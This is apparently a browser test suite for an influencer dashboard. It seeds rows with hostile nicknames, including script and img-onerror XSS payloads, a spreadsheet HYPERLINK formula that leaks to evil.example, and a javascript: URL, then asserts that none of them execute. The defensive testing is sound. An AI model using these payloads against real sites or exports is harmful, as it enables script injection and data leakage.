"""The dashboard's influencer pages in headless Chromium (``on_browser``, tests/fixtures/browser.py),
over rows stored the way a crawl stores them, some with hostile nicknames and uids:

- the table shows the rows a typed filter selects, in the order of the column clicked, a few at
  a time with next and previous pages;
- a hostile nickname is text: no script runs, no element is injected;
- the detail view charts the fans history (one SVG point per history row) and shows the raw data;
- "导出当前筛选" creates an export task whose filter is the one shown, and is refused without a domain.

Screenshots of the table and the detail go where the overview's does (``screenshot``).
"""

from __future__ import annotations

import json
from datetime import datetime

import pytest

from tests.fixtures.browser import screenshot
from tests.fixtures.influencer_rows import store_rows

pytestmark = pytest.mark.slow

DOMAIN = "美妆"
REGIONS = ["广东·深圳", "广东·广州", "上海", "浙江·杭州"]
REGULAR = [{"uid": f"mz/{i:02d}", "nickname": f"达人{i:02d}", "fans": i * 1000, "region": REGIONS[i % 4],
            "tags": ["彩妆"] if i % 2 else ["护肤"], "contact": {"wechat": f"wx{i}"} if i % 3 == 0 else {}}
           for i in range(1, 13)]
HISTORY_UID = "mz/history"
HISTORY = [(datetime(2026, 1, 1, 8), 9000), (datetime(2026, 1, 5, 8), 12000), (datetime(2026, 1, 9, 8), 15000)]
SCRIPT_UID = "evil/<script>?a=1&b=#c%2F"  # a uid to URL-encode, in the hash and in the API path
HOSTILE = {
    SCRIPT_UID: "<script>window.__pwned = 'script'</script>",
    "evil/img": "<img src=x onerror=\"window.__pwned = 'img'\">",
    "evil/formula": '=HYPERLINK("http://evil.example/?leak","点我")',
    "evil/quotes": "\"双引号\" '单引号' & <b>粗体</b></td></tr><tr><td>",
    "evil/zero-width": "\u200b隐\u200d形\u200c字\ufeff",
    "evil/bidi": "\u202e反转文字 abc",
    "evil/long": ("超长昵称<i>x</i>" * 40)[:255],  # the longest a stored nickname gets (the pipeline cuts it)
}
HOSTILE_ROWS = [{"uid": uid, "nickname": nickname, "fans": 100 + n, "region": "广东·深圳<u>", "tags": ["<i>标签</i>"]}
                for n, (uid, nickname) in enumerate(HOSTILE.items())]
FILTER = {"fans_min": 5000, "region": "广东"}


def history_row(fans: int) -> dict:
    return {"uid": HISTORY_UID, "nickname": "历史达人", "fans": fans, "region": "广东·深圳", "tags": ["彩妆", "测评"],
            "contact": {"email": "h@example.com"}, "profile_url": "javascript:alert(1)"}


@pytest.fixture
def seeded(db, scheduler, accounts):
    """The rows of 美妆 (the history influencer seen by three crawls) and one 游戏 row."""
    (first_at, first_fans), *later = HISTORY
    store_rows(db, scheduler, accounts, DOMAIN, [*REGULAR, *HOSTILE_ROWS, history_row(first_fans)], first_at, "采集一")
    for n, (at, fans) in enumerate(later, start=2):
        store_rows(db, scheduler, accounts, DOMAIN, [history_row(fans)], at, f"采集{n}")
    store_rows(db, scheduler, accounts, "游戏", [{"uid": "game/1", "nickname": "游戏大号", "fans": 99_000,
                                                 "region": "广东·深圳"}], first_at, "采集游戏")
    return db


def expected(sort_key, reverse: bool) -> list[str]:
    """The 美妆 uids FILTER selects, computed from the rows as seeded."""
    latest = [*REGULAR, *HOSTILE_ROWS, history_row(HISTORY[-1][1])]
    chosen = [row for row in latest if row["fans"] >= FILTER["fans_min"] and row["region"].startswith(FILTER["region"])]
    return [row["uid"] for row in sorted(chosen, key=sort_key, reverse=reverse)]


def query(db, sql: str, *args) -> list[dict]:
    db.commit()  # a fresh snapshot
    with db.cursor() as cursor:
        cursor.execute(sql, args)
        return list(cursor.fetchall())


# -- the page ---------------------------------------------------------------------------------


def loads(page, view: str) -> int:
    return int(page.get_attribute(f"#{view}", "data-loads") or 0)


def after_load(page, view: str, action) -> None:
    """Do ``action()`` and wait until ``view`` has rendered once more."""
    before = loads(page, view)
    action()
    page.wait_for_function("([id, before]) => Number(document.getElementById(id).dataset.loads || 0) > before",
                           arg=[view, before], timeout=15_000)


def shown_rows(page) -> list[dict]:
    """The table's rows: uid and nickname as the page holds them (textContent, not HTML)."""
    return page.evaluate("""() => [...document.querySelectorAll('#influencer-table tbody tr[data-key]')].map(tr => ({
        uid: tr.dataset.key, nickname: tr.querySelector('td[data-field="nickname"]').textContent}))""")


def shown_uids(page) -> list[str]:
    return [row["uid"] for row in shown_rows(page)]


def injected(page, root: str) -> int:
    """Elements under ``root`` that only a nickname, region or tag parsed as HTML could have made."""
    return page.locator(f"{root} script, {root} img, {root} b, {root} i, {root} u, {root} iframe").count()


def test_influencer_pages(on_browser, api_server, seeded, db, tmp_path):
    on_browser(lambda page: check_influencer_pages(page, api_server, db, tmp_path))


def check_influencer_pages(page, api_server, db, tmp_path):
    page.goto(f"{api_server.url}/dashboard#token={api_server.token}")
    page.wait_for_function("() => Number(document.body.dataset.refreshes || 0) > 0")  # the overview first
    after_load(page, "influencers-view", lambda: page.click('nav a[data-route="influencers"]'))
    assert page.locator("#content").is_hidden() and page.locator("#overview-meta").is_hidden()

    # every row, hostile nicknames as text: no script ran, no element was injected
    stored = {row["uid"]: row["nickname"] for row in query(db, "SELECT uid, nickname FROM influencers")}
    on_page = {row["uid"]: row["nickname"] for row in shown_rows(page)}
    assert on_page == stored and len(on_page) == len(REGULAR) + len(HOSTILE) + 2
    assert {uid: on_page[uid] for uid in HOSTILE} == HOSTILE
    assert page.evaluate("window.__pwned") is None
    assert injected(page, "#influencer-table") == 0
    assert page.locator("#influencer-table tbody td[data-field='tags'] .tag", has_text="<i>标签</i>").count() == len(HOSTILE)
    assert shown_uids(page)[0] == "game/1"  # sorted by fans, largest first
    assert page.locator("#export-button").is_disabled()
    assert "领域" in page.locator("#export-note").inner_text()  # an export needs a domain: the page says so
    screenshot(page, tmp_path, "dashboard-influencers.png")

    # a typed filter, a page of two: the rows it selects, largest first, three pages
    page.fill("#filters input[name=domain]", DOMAIN)
    page.fill("#filters input[name=fans_min]", str(FILTER["fans_min"]))
    page.fill("#filters input[name=region]", FILTER["region"])
    page.fill("#filters input[name=limit]", "2")
    after_load(page, "influencers-view", lambda: page.click("#filters button[type=submit]"))
    largest_first = expected(lambda row: row["fans"], reverse=True)
    assert len(largest_first) == 5 and largest_first[0] == HISTORY_UID
    seen = [shown_uids(page)]
    assert page.locator("#prev-page").is_disabled()
    while not page.locator("#next-page").is_disabled():
        after_load(page, "influencers-view", lambda: page.click("#next-page"))
        seen.append(shown_uids(page))
    assert seen == [largest_first[0:2], largest_first[2:4], largest_first[4:]]
    assert page.locator("#page-label").inner_text().startswith("第 3 页")
    after_load(page, "influencers-view", lambda: page.click("#prev-page"))
    assert shown_uids(page) == largest_first[2:4]
    after_load(page, "influencers-view", lambda: page.click("#prev-page"))
    assert shown_uids(page) == largest_first[0:2]
    assert page.locator("#prev-page").is_disabled()

    # sorting by fans again: smallest first, from the first page
    after_load(page, "influencers-view", lambda: page.click('#influencer-table th button[data-sort="fans"]'))
    smallest_first = expected(lambda row: row["fans"], reverse=False)
    assert smallest_first == largest_first[::-1]
    assert shown_uids(page) == smallest_first[0:2]
    assert "sort=fans" in page.url and page.get_attribute('button[data-sort="fans"]', "data-order") == "ascending"
    after_load(page, "influencers-view", lambda: page.click("#next-page"))
    assert shown_uids(page) == smallest_first[2:4]

    # "export this selection": a task of 美妆 whose filter is the one shown
    assert page.locator("#export-button").is_enabled()
    page.click("#export-button")
    page.wait_for_selector("#export-result[data-task-id]")
    task_id = int(page.get_attribute("#export-result", "data-task-id"))
    [task] = query(db, "SELECT task_type, domain, export_format, export_filter, export_limit FROM tasks WHERE id = %s",
                   task_id)
    assert (task["task_type"], task["domain"], task["export_format"], task["export_limit"]) == ("export", DOMAIN, "csv", None)
    assert json.loads(task["export_filter"]) == FILTER
    assert api_server.get(f"/api/v1/tasks/{task_id}").json()["export_filter"] == FILTER
    assert f"#{task_id}" in page.locator("#export-result").inner_text()

    # saving the search keeps the same filters (with the domain) under a name
    page.fill("#search-name", "广东大号")
    page.click("#save-search")
    page.wait_for_selector('#saved-searches option[value="广东大号"]', state="attached")
    saved = {row["name"]: row["filter"] for row in api_server.get("/api/v1/searches").json()}
    assert saved == {"广东大号": {"domain": DOMAIN, **FILTER}}

    # one influencer: its fields, one chart point per history row, its raw data
    after_load(page, "influencers-view", lambda: page.click("#next-page"))
    assert shown_uids(page) == smallest_first[4:] == [HISTORY_UID]
    after_load(page, "influencer-view", lambda: page.click(f'#influencer-table tr[data-key="{HISTORY_UID}"] a.nick'))
    assert page.url.endswith("#/influencers/mz%2Fhistory")
    assert page.locator("#influencers-view").is_hidden()
    history = query(db, "SELECT h.fans FROM influencer_history h JOIN influencers i ON i.id = h.influencer_id"
                        " WHERE i.uid = %s ORDER BY h.recorded_at", HISTORY_UID)
    assert [row["fans"] for row in history] == [fans for _, fans in HISTORY]
    points = page.locator("#history-chart svg circle.point")
    assert points.count() == len(history)
    assert [int(points.nth(n).get_attribute("data-fans")) for n in range(len(history))] == [fans for _, fans in HISTORY]
    heights = [float(points.nth(n).get_attribute("cy")) for n in range(len(history))]
    assert heights == sorted(heights, reverse=True)  # more fans, higher up
    assert json.loads(page.locator("#raw-data").text_content()) == history_row(HISTORY[-1][1])
    assert page.locator('#detail-fields dd[data-field="fans"]').inner_text() == "15,000"
    assert page.locator('#detail-fields dd[data-field="profile_url"] a').count() == 0  # javascript: is no link
    assert page.locator('#detail-crawl dd[data-field="account"]').inner_text() == "采集3"
    screenshot(page, tmp_path, "dashboard-influencer.png")

    # back to the list: the same selection and page
    after_load(page, "influencers-view", lambda: page.click("#back-to-list"))
    assert shown_uids(page) == [HISTORY_UID]

    # a hostile uid and nickname in the detail: text, and still no script
    after_load(page, "influencer-view", lambda: page.evaluate(
        "uid => { location.hash = '#/influencers/' + encodeURIComponent(uid) }", SCRIPT_UID))
    assert page.locator("#detail-title .nick").text_content() == HOSTILE[SCRIPT_UID]
    assert json.loads(page.locator("#raw-data").text_content())["nickname"] == HOSTILE[SCRIPT_UID]
    assert injected(page, "#influencer-view") == 0 and page.evaluate("window.__pwned") is None

    # no domain, no export; a filter the API refuses: its message, and the form to fix it
    after_load(page, "influencers-view", lambda: page.evaluate("location.hash = '#/influencers?fans_min=5000'"))
    assert page.locator("#export-button").is_disabled()
    page.evaluate("location.hash = '#/influencers?fans_min=10000000000000000'")
    page.wait_for_selector("#error:not([hidden])")
    assert "fans_min" in page.locator("#error").inner_text() and page.locator("#filters").is_visible()
    refused = [problem for problem in page.problems if "status of 422" in problem]
    assert len(refused) == 1  # Chromium logs the refused request; nothing else went wrong
    page.problems.remove(refused[0])

    # the overview still works
    refreshes = int(page.evaluate("document.body.dataset.refreshes"))
    page.click('nav a[data-route="overview"]')
    page.wait_for_function("(n) => Number(document.body.dataset.refreshes) > n", arg=refreshes)
    assert page.locator("#content").is_visible() and page.locator("#influencers-view").is_hidden()

    assert page.requests and all(url.startswith(api_server.url) for url in page.requests), page.requests
    assert page.problems == [], page.problems
